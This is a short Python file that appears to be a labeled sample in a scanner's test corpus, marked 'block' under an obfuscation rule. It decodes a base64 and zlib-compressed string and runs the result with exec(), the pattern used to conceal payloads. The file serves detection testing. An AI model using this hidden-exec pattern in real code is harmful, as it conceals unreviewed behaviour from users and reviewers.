# pyguard-corpus: verdict=block category=obfuscation rules=PG801
# what: decompresses a zlib+base64 payload and executes it
import base64
import zlib

_PAYLOAD = "eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3MjDWM9AzNDTWMzTSz1SoUSjOUNfkAgA/2hFq"
exec(zlib.decompress(base64.b64decode(_PAYLOAD)).decode())
